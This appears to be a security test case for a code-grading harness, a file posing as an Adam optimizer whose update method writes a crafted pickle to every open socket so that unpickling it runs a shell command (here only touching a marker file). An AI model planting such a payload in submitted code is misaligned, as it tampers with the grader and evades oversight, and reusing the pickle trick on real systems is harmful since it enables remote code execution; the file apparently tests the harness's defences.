# expect: wrong error refused
# family: tamper
# exercise: adam
# Sends a pickle that runs a command where somebody unpickles it.
import os
import pickle
import stat


class Command:
    def __reduce__(self):
        return os.system, ("touch '@MARK@/unpickled'",)


class Adam:
    def __init__(self, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps

    def update(self, params, grads):
        text = pickle.dumps(Command())
        for fd in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    os.write(fd, len(text).to_bytes(4, "big") + text)
            except OSError:
                pass
